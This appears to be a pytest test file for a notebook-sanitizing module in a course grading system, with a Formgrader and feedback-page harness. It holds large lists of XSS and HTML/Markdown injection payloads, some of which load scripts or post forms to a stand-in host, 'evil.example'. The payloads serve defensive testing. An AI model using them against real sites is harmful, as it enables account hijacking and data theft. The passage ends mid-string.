"""Pages of hostile students do nothing, pages of honest ones stay what they were; many at once."""

import json
import os
import random
import re
import shutil
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from bleach._vendor import html5lib
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.converters import NbGraderException
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

from course import notebooks
from course.check import Message
from course.grading import feedback, harmless
from course.language import _, counted, number, speaking
from tests.classroom import ROOT, nbgrader
from tests.jupyterlab import CHROMIUM, instructors_server

EVIL = "http://evil.example"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
    "AAAABJRU5ErkJggg=="
)

HOSTILE_HTML = [
    "<script>window.pwned = 1</script>",
    f"<script src='{EVIL}/a.js'></script>",
    "<ScRiPt\n>window.pwned = 1</sCrIpT\n>",
    "<scr<script>ipt>window.pwned = 1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror\n=\nwindow.pwned=1 //",
    "<img/src='x'/onerror=window.pwned=1>",
    '<IMG """><script>window.pwned = 1</script>">',
    f"<img src='{EVIL}/a.png'>",
    f"<img src='//evil.example/a.png' srcset='{EVIL}/b.png'>",
    "<img src='files///evil.example/a.png'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style>",
    "<math href='javascript:window.pwned=1'>x</math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    f"<iframe src='{EVIL}'></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    f"<embed src='{EVIL}/a.swf'>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<a href=' &#106;ava&Tab;script:window.pwned=1'>x</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    "<a href='vbscript:window.pwned=1'>x</a>",
    f"<a href='https://ok.example' ping='{EVIL}/ping' onclick='window.pwned=1'>x</a>",
    "<a href='evil.html'>x</a>",
    "<a href='/logout'>x</a>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style scoped>.dataframe {{ background: url({EVIL}/a.png) }}</style>",
    f"<div style='background: url({EVIL}/a.png)'>x</div>",
    "<div style='position: fixed; top: 0; left: 0; width: 100%'>cover</div>",
    "<div style='margin-top: -500px; height: 0'>cover</div>",
    f"<link rel=stylesheet href='{EVIL}/a.css'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}'>",
    f"<form action='{EVIL}'><input name=a><button formaction='{EVIL}'>x</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video src=x onerror=window.pwned=1></video><audio src=x onerror=window.pwned=1></audio>",
    "<body onload=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<textarea></textarea><img src=x onerror=window.pwned=1>",
    "<title></title><img src=x onerror=window.pwned=1>",
    "<xmp></xmp><img src=x onerror=window.pwned=1>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<!-- --!><img src=x onerror=window.pwned=1> -->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml-stylesheet href='javascript:window.pwned=1'?>",
    "<p title='<img src=x onerror=window.pwned=1>'>x</p>",
    "<p class='nbgrader_cell full-credit score tabbable' id='c-check'>x</p>",
    "<h1 id='c-check'>x</h1>",
    "<span data-link='x' data-toggle='tooltip' title='<img src=x onerror=window.pwned=1>'>x</span>",
    "</div></div></div></div></div><div class='panel-heading'>Score: 10.0 / 10.0</div>",
    "<ul><li><div><li></div></div></div></div></ul>",
    "<table><div><table></table></div></table></div></div>",
    "<b><p></b></div><plaintext>",
    "<div>$\\href{javascript:window.pwned=1}{x}$ $\\require{href}\\style{background:red}{x}$</div>",
    "<div>$\\hr<foo>ef{javascript:window.pwned=1}{x}$ $\\&#104;ref{javascript:x}{x}$</div>",
]
HOSTILE_MARKDOWN = [
    "[x](javascript:window.pwned=1)",
    "[x](java\nscript:window.pwned=1)",
    "[x](&#x6A;avascript:window.pwned=1)",
    "[x](javascript&colon;window.pwned=1)",
    "[x](<javascript:window.pwned=1>)",
    "[x][r]\n\n[r]: javascript:window.pwned=1",
    "<javascript:window.pwned=1>",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](vbscript:window.pwned=1)",
    "[x](evil.html)",
    "[x](//evil.example/a.csv)",
    f"![x]({EVIL}/a.png)",
    "![x](javascript:window.pwned=1)",
    '![x" onerror="window.pwned=1](x.png)',
    '![x](x.png" onerror="window.pwned=1)',
    '[x](https://ok.example "t" onclick="window.pwned=1")',
    "![x](attachment:evil)",
    "![x](attachment:missing)",
    "```mermaid\n</pre><img src=x onerror=window.pwned=1>\n```",
    '```"><img/src=x/onerror=window.pwned=1>\ncode\n```',
    "# c-check",
    "# <img src=x onerror=window.pwned=1>",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "$\\href{javascript:window.pwned=1}{x}$",
    "$$\\require{href}\\unicode{x41}\\class{full-credit}{\\cssId{c-check}{\\style{position:fixed}{x}}}$$",
    "\\begin{equation}\\href{javascript:window.pwned=1}{x}\\end{equation}",
    "$x$</span><img src=x onerror=window.pwned=1>",
    "$$<img src=x onerror=window.pwned=1>$$",
    *HOSTILE_HTML,
]
ON_A_PAGE = '"><img src=x onerror=window.pwned=1><script>window.pwned=1</script>'


def hostile_outputs():
    """What a file may hold as outputs, whoever wrote it there."""
    forged = Message(["**✓ 1.8 romi: right**", "5 points."], "#2e7d32")._repr_html_()
    size = {"image/png": {"width": "1 onerror=window.pwned=1", "height": ON_A_PAGE}}
    return [
        new_output("stream", text=f"\x1b[31m{ON_A_PAGE}\x1b[38m\x1b]0;title\x07\x1b[2J"),
        new_output("error", ename=ON_A_PAGE, evalue=ON_A_PAGE, traceback=[ON_A_PAGE, "\x1b[48mx"]),
        new_output("display_data", {"text/html": forged}),
        new_output("display_data", {"text/html": "x"}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", {"image/png": PNG}, metadata=size),
        new_output("display_data", {"image/png": ON_A_PAGE}),
        new_output("display_data", {"image/svg+xml": "<svg onload=window.pwned=1>"}),
        new_output("display_data", {"application/javascript": "window.pwned = 1"}),
        new_output("display_data", {"text/latex": "$\\href{javascript:window.pwned=1}{x}$"}),
        new_output("display_data", {"text/vnd.mermaid": ON_A_PAGE}),
        new_output("execute_result", {"text/plain": ON_A_PAGE}),
        new_output(
            "display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": ON_A_PAGE}}
        ),
        *[new_output("display_data", {"text/html": text}) for text in HOSTILE_HTML],
        *[new_output("display_data", {"text/markdown": text}) for text in HOSTILE_MARKDOWN],
    ]


def hostile_cells():
    """Cells that a student may add; their metadata are the student's as well."""
    attached = {"evil": {"text/html": "<script>window.pwned=1</script>", "image/png": ON_A_PAGE}}
    cells = [new_markdown_cell(text, attachments=attached) for text in HOSTILE_MARKDOWN]
    metadata = {
        "tags": ["x nbgrader_cell", ON_A_PAGE],
        "alt": ON_A_PAGE,
        "magics_language": ON_A_PAGE,
        "nbgrader": {"grade_id": ON_A_PAGE, "grade": False, "solution": False, "locked": False},
    }
    for outputs in (hostile_outputs()[:100], hostile_outputs()[100:]):
        cells.append(new_code_cell(ON_A_PAGE, outputs=outputs, metadata=metadata))
    raw = [
        nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"})
        for text in HOSTILE_HTML
    ]
    return cells + raw


# --- The cleaner alone ---------------------------------------------------------------------------

SAFE_ATTRIBUTES = {
    *(
        "align",
        "alt",
        "border",
        "halign",
        "checked",
        "class",
        "colspan",
        "disabled",
        "href",
        "id",
        "open",
    ),
    *("rel", "rowspan", "scope", "src", "start", "style", "title", "type", "width"),
}
SAFE_LINK = re.compile(r"#text-|https?://|mailto:|[\w./-]+[.]csv$")
SAFE_STYLE = re.compile(r"[\w\s:;#.%-]*")


def troubles(element):
    """What in this piece of a page could run, load, send, cover or be taken for the page's own."""
    found = []
    for tag in element.find_all(True):
        if tag.name not in harmless.KNOWN and not harmless.PANDAS_STYLE.fullmatch(str(tag)):
            found.append(tag.name)
        for key, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if (
                key not in SAFE_ATTRIBUTES
                or (key == "class" and not set(value.split()) <= harmless.CLASSES)
                or (
                    key == "href"
                    and not re.match("#text-|https?://|mailto:|[\\w./-]+[.]csv$", value)
                )
                or (key == "src" and not re.match("data:image/png;|x[.]png$", value))
                or (key == "style" and not SAFE_STYLE.fullmatch(value))
                or (key == "style" and re.search("position|height|-\\d|url", value))
                or (key == "id" and not value.startswith("text-"))
                or (key == "type" and value != "checkbox")
            ):
                found.append(f"{tag.name} {key}={value}")
    for text in element.find_all(string=re.compile(r"\\(href|require|style|class)\b")):
        if text.find_parent(["pre", "code"]) is None:  # there MathJax does not look
            found.append(text)
    return found


def parsed(piece):
    """The piece inside of a page, as a browser reads it, and whether it stays where it was put."""
    cell = f"<div id=cell><div id=piece>{piece}</div></div>"
    page = f"<!DOCTYPE html><body><div>{cell}<i id=end></i></div>"
    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    body = tree.find("body")
    outer = body.findall("*")
    inside = outer[0].findall("*") if len(outer) == 1 else []
    contained = [e.get("id") for e in inside] == ["cell", "end"] and len(inside[0]) == 1
    read = html5lib.serialize(inside[0], omit_optional_tags=False)
    return BeautifulSoup(read, "html.parser"), contained


@pytest.mark.parametrize("source", HOSTILE_HTML)
def test_hostile_html_is_harmless_and_stays_in_its_place(source):
    clean = harmless.clean_html(source)
    piece, contained = parsed(clean)
    assert contained
    assert not troubles(piece.find(id="piece"))
    assert harmless.clean_html(clean) == clean


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_hostile_markdown_is_harmless_and_stays_in_its_place(source):
    piece, contained = parsed(harmless.html_of(source, {}))
    assert contained
    assert not troubles(piece.find(id="piece"))


def soups(n):
    """Random tags in random order: what no person would write."""
    chance = random.Random(3)
    names = [*sorted(harmless.KNOWN), "script", "style", "svg", "math", "form", "select", "foo"]
    bits = [
        "text",
        " ",
        "&lt;",
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        "$\\href{a}{b}$",
        "'",
        '"',
        "\\",
        "&",
    ]
    attributes = [
        "",
        " id=piece",
        " class=score",
        " style='x:y",
        ' href="javascript:x"',
        " onclick=x",
        "/",
    ]

    def bit():
        kind = chance.random()
        name = chance.choice(names)
        if kind < 0.5:
            return f"<{name}{chance.choice(attributes)}>"
        return f"</{name}>" if kind < 0.85 else chance.choice(bits)

    return ["".join(bit() for _ in range(chance.randrange(2, 25))) for _ in range(n)]


def test_no_mixture_of_tags_gets_out():
    for source in soups(3000):
        clean = harmless.clean_html(source)
        piece, contained = parsed(clean)
        assert contained, source
        assert not troubles(piece.find(id="piece")), source
        assert harmless.clean_html(clean) == clean


@pytest.mark.parametrize(
    "bit",
    [
        *("<div>", "<b class=k>", "<p>", "<!--", "<!", "<a ", "<a href='", '<x y="', "<h1>"),
        *("</b>", "<b><p>", "<table><tr><td>", "&", "&#9", "\\href", "$a$ ", "\\\\[", "\\begin{a}"),
        *("[", "![", "`", "*a ", "> ", "- a\n", "|a|b|\n|-|-|\n", "#\n", "a\n=\n"),
        *("\x1b[31m", "\x1b["),
    ],
)
def test_work_is_bounded(bit):
    text = (bit * 300_000)[:300_000]
    start = time.process_time()
    harmless.clean_html(text)
    harmless.html_of(text, {})
    harmless.html_of(text[:29_000], {})
    harmless.outputs([new_output("stream", text=text)] * 20)
    assert time.process_time() - start < 20  # 1 s on an idle machine; quadratic work takes minutes


def test_own_messages_and_tables_of_pandas_stay_what_they_are():
    for value in (
        Message(["**✗ 1.8 romi: not yet**", "`romi` & <b> of `d < 1`"], "#b3541e"),
        pd.DataFrame({"არხი": ["<b>brand</b>", "R&D"], "romi": [1.5, None]}),
        pd.DataFrame({"a": range(100)}),
        pd.DataFrame({("a", "b"): [1], ("a", "c"): [2]}).rename_axis("x"),
    ):
        shown = value._repr_html_()
        assert harmless.clean_html(shown) == shown


# --- Honest text ---------------------------------------------------------------------------------

HONEST = [
    "a < b and b > c, R&D, AT&T, 1 < 2, x <- y, \"quotes\", 'quotes', 5 % of GEL 1,000 — ₾",
    "მეტი ფული e-mail-ში: **რომი** არის 150 %, _ხარჯი_ კი 1 000 ₾.",
    "`<script>alert(1)</script>` and `a && b` in code",
    "```python\nif a < b and c > d:\n    print('<b>')\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```\nplain <tag> &amp;\n```",
    "    indented <code>",
    "# Title & more\n\n## A <br> second: 1 < 2\n\n[to the title](#Title-&-more)",
    "- one\n- two\n    1. three\n    2. four\n\n3. five\n4. six\n",
    "- [ ] to do\n- [x] done",
    "| channel | ROMI |\n|:--|--:|\n| a \\| b | `1 < 2` |\n| R&D | $x^2$ |",
    "$a < b$ and $$\\frac{a}{b} \\text{ROMI} & x \\\\ y$$ and \\\\(a_1\\\\)",
    "\\begin{align} a &= b \\\\ c &= d < e \\end{align}",
    "> a quotation\n> > inside\n\n---\n\nline  \nbreak",
    '[a link](https://example.com/?a=1&b=2 "title"), <https://example.com>, mail <a@b.ge>',
    "https://example.com/path?q=a&r=b#c and [a file](../1-analytics/1-analytics.ipynb)",
    "![plot](plot.png) ![from elsewhere](data:image/png;base64," + PNG + ")",
    "<details><summary>More</summary>\n\ntext **bold**\n\n</details>",
    '<div class="alert alert-info"><b>Note</b> 1 &lt; 2 &nbsp; &copy;</div>',
    '<table border="1"><tr><th>a</th></tr><tr><td colspan="2">b<br>c</td></tr></table>',
    "<!-- a comment -->H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, ~~gone~~, <u>under</u>",
    "\\* not a list, \\_ \\$5 and \\$6, C:\\\\Users\\name, \\$\\href",
    "term\n: definition",
]


def course_texts():
    """Every Markdown cell of the course: the instructor's part of the pages."""
    for path in sorted([*ROOT.glob("source/*/*.ipynb"), *notebooks.LESSONS.glob("*.ipynb")]):
        yield from (c.source for c in notebooks.read(path).cells if c.cell_type == "markdown")


def normal(page):
    """The page as a tree, without what is made anew on purpose: names of anchors, `rel`."""
    soup = BeautifulSoup(page, "html.parser")
    for comment in soup.find_all(string=lambda text: type(text).__name__ == "Comment"):
        comment.extract()
    for tag in soup.find_all(True):
        tag.attrs.pop("rel", None)
        for key in ("id", "href"):
            if key in tag.attrs:
                tag[key] = tag[key].replace("#text-", "#").removeprefix("text-")
        if tag.name == "code" and tag.find_parent("pre"):
            tag.attrs.pop("class", None)
    return str(soup).replace(" ", "").replace("\n", "")


@pytest.mark.parametrize("source", [*HONEST, "\n\n".join(HONEST)])
def test_honest_text_looks_the_same(source):
    before = MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(source)
    after = harmless.html_of(source, {})
    if "\\href" in source:
        shown = [BeautifulSoup(page, "html.parser").text.split() for page in (before, after)]
        assert shown[0] == shown[1]
    else:
        assert normal(before) == normal(after)


def test_the_courses_own_text_looks_the_same():
    for source in course_texts():
        before = MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(source)
        assert normal(before) == normal(harmless.html_of(source, {}))


def test_an_attached_picture_is_shown():
    page = harmless.html_of("![plot](attachment:p.png)", {"p.png": {"image/png": PNG}})
    assert f'<img src="data:image/png;base64,{PNG}" alt="plot">' in page


def test_nbconverts_own_switch_would_harm_honest_text():
    """Why it is not used; if this fails, it may have become good enough."""
    exporter = HTMLExporter(sanitize_html=True)
    assert "&lt;p&gt;" in exporter.environment.filters["clean_html"]("<p>text</p>")


# --- Outputs -------------------------------------------------------------------------------------


class Odd:
    def __str__(self):
        raise RuntimeError


@pytest.mark.parametrize(
    "found",
    [None, 5, "text", {}, [None], [5], ["x"], [[]], [{}], [{"output_type": "x"}], [Odd()]]
    + [[{"output_type": kind}] for kind in ("stream", "error", "display_data", "execute_result")]
    + [[{"output_type": "stream", "name": "x", "text": value}] for value in (None, 5, [None, "a"])]
    + [
        [
            {
                "output_type": "error",
                "ename": {},
                "evalue": 5,
                "traceback": [None, 5, "x" * 10**6] * 99,
            }
        ]
    ]
    + [
        [{"output_type": "display_data", "data": value}]
        for value in (5, [], {"text/html": 5}, {5: 5})
    ]
    + [[{"output_type": "display_data", "data": {"image/png": "%%%"}, "metadata": 5}]]
    + [[{"output_type": "execute_result", "data": {}, "execution_count": 10**5000}]]
    + [[{"output_type": "stream", "text": "\ud800\x00\x1b\x1b["}]]
    + [hostile_outputs()[:150]],
)
def test_outputs_of_any_shape_come_out_as_nbformat_has_them(found):
    clean = harmless.outputs(found)
    notebook = new_notebook(cells=[new_code_cell("", outputs=clean)])
    nbformat.validate(notebook)
    json.dumps(clean).encode()
    assert harmless.outputs(clean) == clean
    exporter = HTMLExporter(filters=harmless.FILTERS)
    exporter.from_notebook_node(notebook)[0].encode()


def test_the_outputs_of_a_notebook_are_bounded(monkeypatch):
    monkeypatch.setattr(harmless, "MAX_NOTEBOOK", 1000)
    stream = new_output("stream", text="x" * 400)
    notebook = new_notebook(cells=[new_code_cell(outputs=[stream] * 2) for _ in range(5)])
    harmless.clean_notebook(notebook)
    shown = [[str(output) for output in cell.outputs] for cell in notebook.cells]
    assert "left out" not in str(shown[0])
    assert "the rest was left out" in str(shown[1])
    assert all("2 more outputs were left out" in str(outputs) for outputs in shown[2:])
    assert harmless.len_of([cell.outputs for cell in notebook.cells]) < 2000


def test_outputs_are_bounded():
    flood = [new_output("stream", text="x" * 1_000_000) for _ in range(500)]
    picture = PNG + "A" * 3_000_000
    flood += [new_output("display_data", {"image/png": picture}) for _ in range(20)]
    assert len(json.dumps(harmless.outputs(flood))) < 2_100_000
    assert len(json.dumps(harmless.outputs(flood[-20:]))) < 8_100_000
    assert len(harmless.outputs(flood)) == harmless.MAX_OUTPUTS + 1


def test_colours_of_a_traceback_stay():
    line = "\x1b[0;31mZeroDivisionError\x1b[0m \x1b[38;5;28;01mx\x1b[39;00m"
    assert harmless.outputs([new_output("stream", text=line)])[0].text == line


# --- Real pages ----------------------------------------------------------------------------------

CONFIG = """
from course.grading.harmless import FILTERS, PREPROCESSORS
c.HTMLExporter.filters = FILTERS
c.HTMLExporter.preprocessors = PREPROCESSORS
"""
ASSIGNMENT = "a & b"
HOSTILE = "<img src=x onerror=window.pwned=1>"  # a student's name is a folder's


def nbgrader_cell(cell, grade_id, **about):
    cell.id = grade_id
    cell.metadata.nbgrader = {
        "schema_version": 3,
        "grade_id": grade_id,
        "task": False,
        "cell_type": cell.cell_type,
        "grade": False,
        "solution": False,
        "locked": False,
        **about,
    }
    return cell


def assignment():
    """A notebook with an answer, its check and a text that a person grades."""
    return new_notebook(
        cells=[
            new_markdown_cell("# Compute a ROMI\n\n`a < b`"),
            nbgrader_cell(new_code_cell("romi = 1"), "c-answer", solution=True),
            nbgrader_cell(
                new_code_cell("assert romi"), "c-check", grade=True, locked=True, points=2
            ),
            nbgrader_cell(new_markdown_cell("Why?"), "c-why", grade=True, solution=True, points=1),
        ],
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "language_info": {"name": "python"},
        },
    )


def submit(course, student, notebook, name="p1"):
    """A graded submission, without the run: what a page shows is what stands in the file."""
    folder = course / "autograded" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.ipynb").write_text(json.dumps(notebook))
    (folder / "timestamp.txt").write_text("2026-03-01 12:00:00 UTC")
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "internet-marketer") as gradebook:
        gradebook.update_or_create_student(student)
        graded = gradebook.update_or_create_submission(ASSIGNMENT, student)
        for grade in graded.notebooks[0].grades:
            grade.auto_score, grade.needs_manual_grade = grade.max_score_gradecell, False
        gradebook.db.commit()


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course folder with one assignment, an honest student and a hostile one, both graded."""
    root = tmp_path_factory.mktemp("course")
    config = (ROOT / "nbgrader_config.py").read_text() + CONFIG
    (root / "nbgrader_config.py").write_text(
        config.replace("Path(__file__).parent.resolve()", repr(str(root)))
    )
    (root / "source" / ASSIGNMENT).mkdir(parents=True)
    nbformat.write(assignment(), root / "source" / ASSIGNMENT / "p1.ipynb")
    nbgrader(root, "generate_assignment", ASSIGNMENT)
    honest = assignment()
    honest.cells[1].outputs = [
        new_output("stream", text="\x1b[31m150 %\x1b[0m a < b"),
        new_output("display_data", {"text/html": pd.DataFrame({"a": [1]})._repr_html_()}),
        new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}),
    ]
    honest.cells += [new_markdown_cell(text) for text in HONEST if "\\href" not in text]
    submit(root, "honest", honest)
    hostile = assignment()
    hostile.cells[3].source = "\n\n".join(HOSTILE_MARKDOWN[:20])
    hostile.cells[1:1] = hostile_cells()
    hostile.metadata["title"] = ON_A_PAGE
    hostile.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": ON_A_PAGE}
    submit(root, HOSTILE, hostile)
    return root


def formgraders_page(course, student, assignment=ASSIGNMENT, notebook="p1"):
    """What Formgrader's handler gives for a submission: its exporter, its resources."""
    extension = FormgradeExtension()
    extension.initialize([], root=str(course))
    exporter = HTMLExporter(config=extension.config)
    file = course / "autograded" / student / assignment / f"{notebook}.ipynb"
    resources = {
        "assignment_id": assignment,
        "notebook_id": notebook,
        "submission_id": "0",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": student,
        "last_name": None,
        "first_name": None,
        "notebook_path": str(file.relative_to(course)),
    }
    return exporter.from_filename(str(file), resources=resources)[0]


def feedback_page(course, student):
    return (course / "feedback" / student / ASSIGNMENT / "p1.html").read_text("utf-8")


def student_parts(page):
    """The parts of a page that show what students wrote, and what the page has besides."""
    soup = BeautifulSoup(page, "html.parser")
    parts = [
        part.extract()
        for part in soup.select(".text_cell_render, .output_html, .output_markdown, .output_latex")
    ]
    return parts, soup


@pytest.mark.parametrize("kind", ["feedback", "formgrader"])
def test_a_real_page_of_a_hostile_notebook_is_harmless(course, kind, monkeypatch):
    monkeypatch.chdir(course)
    pages = {}
    for student in ("honest", HOSTILE):
        if kind == "formgrader":
            pages[student] = formgraders_page(course, student)
        else:
            assert not feedback.generate(course, ASSIGNMENT, [student], force=True).failed
            pages[student] = feedback_page(course, student)
    parts, rest = student_parts(pages[HOSTILE])
    assert len(parts) > 2 * len(HOSTILE_MARKDOWN)
    assert not [trouble for part in parts for trouble in troubles(part)]
    # Nothing but those parts differs from an honest page in what may be active.
    _, honest = student_parts(pages["honest"])
    for selector in (
        "script",
        "style",
        "link",
        "meta",
        "base",
        "iframe",
        "form",
        "object",
        "[onclick]",
    ):
        assert [str(t) for t in rest.select(selector)] == [str(t) for t in honest.select(selector)]
    assert len(rest.select(".nbgrader_cell")) == len(honest.select(".nbgrader_cell")) == 3
    active = [t for t in rest.find_all(True) for key in t.attrs if key.startswith("on")]
    assert len(active) == (2 if kind == "formgrader" else 0)  # its own "show name", "hide name"
    assert {t["src"][:15] for t in rest.select("img")} <= {"data:image/png;"}
    assert HOSTILE not in pages[HOSTILE]


def test_an_honest_page_shows_what_stock_nbgrader_shows(course, tmp_path):
    assert not feedback.generate(course, ASSIGNMENT, ["honest"], force=True).failed
    stock = tmp_path / "stock"
    shutil.copytree(course, stock, ignore=shutil.ignore_patterns("feedback"))
    config = (course / "nbgrader_config.py").read_text().replace(str(course), str(stock))
    config += "c.HTMLExporter.filters = {}\nc.HTMLExporter.preprocessors = []\n"
    (stock / "nbgrader_config.py").write_text(config)
    nbgrader(stock, "generate_feedback", ASSIGNMENT, "--student", "honest")
    ours, theirs = feedback_page(course, "honest"), feedback_page(stock, "honest")
    assert "a < b and b > c, R&D" in BeautifulSoup(ours, "html.parser").text
    assert normal(ours) == normal(theirs)


# --- Many pages at once --------------------------------------------------------------------------


def tree(folder):
    """Every page with its bytes and its permissions; not what is kept beside it."""
    files = sorted(path for path in folder.rglob("[!.]*") if path.is_file())
    return {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mode) for p in files}


@pytest.fixture
def classroom(course, tmp_path):
    """The course with ten students more, in a folder of its own."""
    root = tmp_path / "class"
    shutil.copytree(course, root, ignore=shutil.ignore_patterns("feedback"))
    config = (root / "nbgrader_config.py").read_text().replace(str(course), str(root))
    (root / "nbgrader_config.py").write_text(config)
    for n in range(10):
        notebook = assignment()
        notebook.cells[3].source = f"Answer {n}"
        submit(root, f"student-{n}", notebook)
    return root


def test_pages_are_those_of_nbgrader(classroom):
    told = []
    report = feedback.generate(
        classroom, ASSIGNMENT, jobs=2, progress=lambda student, problem: told.append(student)
    )
    assert not report.failed
    assert not report.skipped
    assert sorted(told) == sorted(report.made)
    assert len(told) == 12
    ours = tree(classroom / "feedback")
    shutil.rmtree(classroom / "feedback")
    nbgrader(classroom, "generate_feedback", ASSIGNMENT)
    assert ours == tree(classroom / "feedback")


def test_pages_that_are_there_are_skipped_unless_the_submission_is_newer(classroom):
    students = ["student-1", "student-2"]
    feedback.generate(classroom, ASSIGNMENT, students)
    assert sorted(feedback.generate(classroom, ASSIGNMENT, students).skipped) == students
    newer = classroom / "autograded" / "student-2" / ASSIGNMENT / "timestamp.txt"
    newer.write_text("2026-03-02 12:00:00 UTC")
    page = classroom / "feedback" / "student-1" / ASSIGNMENT / "p1.html"
    page.write_text("old")
    report = feedback.generate(classroom, ASSIGNMENT, students)
    assert (report.made, report.skipped) == (["student-2"], ["student-1"])
    assert feedback.generate(classroom, ASSIGNMENT, ["student-1"], force=True).made == ["student-1"]
    assert page.read_text("utf-8") != "old"


def change(course, student, **about):
    """What a person does in Formgrader, or the instructor: to the text that waits for a person."""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "internet-marketer") as gradebook:
        grade = gradebook.find_grade("c-why", "p1", ASSIGNMENT, student)
        comment = gradebook.find_comment("c-why", "p1", ASSIGNMENT, student)
        notebook = gradebook.find_submission_notebook("p1", ASSIGNMENT, student)
        for name, value in about.items():
            row = next(row for row in (grade, comment, notebook) if hasattr(row, name))
            setattr(row, name, value)
        gradebook.db.commit()


@pytest.mark.parametrize(
    "changed",
    [
        {"manual_score": 0.5, "needs_manual_grade": False},
        {"manual_comment": "Well said."},
        {"needs_manual_grade": True},
        {"extra_credit": 0.25},
        {"late_submission_penalty": 0.5},
    ],
)
def test_pages_are_made_again_where_what_they_show_has_changed(classroom, changed):
    students = ["student-1", "student-2"]
    feedback.generate(classroom, ASSIGNMENT, students)
    before = feedback_page(classroom, "student-2")
    change(classroom, "student-2", **changed)
    report = feedback.generate(classroom, ASSIGNMENT, students)
    assert (report.made, report.skipped) == (["student-2"], ["student-1"])
    assert feedback_page(classroom, "student-2") != before
    assert feedback.generate(classroom, ASSIGNMENT, students).made == []


def test_pages_are_made_again_where_the_notebook_was_graded_again_or_they_are_not_ours(classroom):
    students = ["student-1", "student-2"]
    feedback.generate(classroom, ASSIGNMENT, students)
    graded = classroom / "autograded/student-1" / ASSIGNMENT / "p1.ipynb"
    graded.write_text(graded.read_text().replace("Answer 1", "Answer 1b"))
    (classroom / "feedback/student-2" / f".{ASSIGNMENT}.json").write_text("[")
    assert sorted(feedback.generate(classroom, ASSIGNMENT, students).made) == students
    assert "Answer 1b" in feedback_page(classroom, "student-1")


@pytest.mark.parametrize("language", ["en", "ka"])
def test_what_nobody_has_read_has_no_mark_yet_and_cells_have_names(classroom, language):
    student = "student-1"
    notebook = assignment()
    notebook.metadata.lang = language
    heading = nbgrader_cell(new_markdown_cell("### 7.1 Say <why> · 1 point"), "h", locked=True)
    notebook.cells.insert(3, heading)
    submit(classroom, student, notebook)
    change(classroom, student, auto_score=None, needs_manual_grade=True)
    assert not feedback.generate(classroom, ASSIGNMENT, [student], force=True).failed
    with speaking(language):
        not_read = _("not read yet (points: {all})", all=number("1.0"))
        one = counted("{number} answer not read yet", "{number} answers not read yet", 1)
        score, kind = _("Score"), _("Test cell")
        sums = number("2.0"), number("3.0")
    page = BeautifulSoup(feedback_page(classroom, student), "html.parser")
    first, why = (" ".join(item.text.split()) for item in page.select("#toc li"))
    assert first == f"{kind} ({score}: {sums[0]} / {sums[0]})"
    assert why == f"7.1 Say <why> ({not_read})"
    assert one in page.h4.text
    assert f"{score}: 2.0 / 3.0" in page.h4.text
    assert page.text.count(not_read) == 2  # in the list, and over the cell

    change(classroom, student, manual_score=0.5, needs_manual_grade=False)
    assert feedback.generate(classroom, ASSIGNMENT, [student]).made == [student]
    page = BeautifulSoup(feedback_page(classroom, student), "html.parser")
    assert not_read not in page.text
    assert one not in page.text
    with speaking(language):
        assert f"{score}: {number('0.5')} / {number('1.0')}" in page.text


def test_one_students_failure_stops_nobody(classroom):
    config = classroom / "nbgrader_config.py"
    config.write_text(
        config.read_text()
        + """
import os
from nbgrader.preprocessors import NbGraderPreprocessor
from nbgrader.converters import GenerateFeedback
class Dies(NbGraderPreprocessor):
    def preprocess(self, nb, resources):
